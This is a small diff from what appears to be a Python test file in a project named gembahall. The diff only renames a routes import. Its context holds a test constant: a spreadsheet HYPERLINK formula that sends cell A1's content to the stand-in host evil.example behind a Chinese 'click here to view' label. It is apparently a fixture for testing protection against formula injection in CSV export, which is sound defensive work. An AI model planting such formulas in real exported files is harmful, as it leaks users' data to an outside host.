@@ -21,7 +21,7 @@ from gembahall.core.xlsx import FORMULA_START, csv_text
 from gembahall.inspections.models import ItemResult
 from gembahall.reports.forms import default_periods
 from tests import factories as f
-from tests.test_routes import ROUTES
+from tests.routes_matrix import ROUTES
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
 PACKAGE = Path(settings.BASE_DIR) / "gembahall"
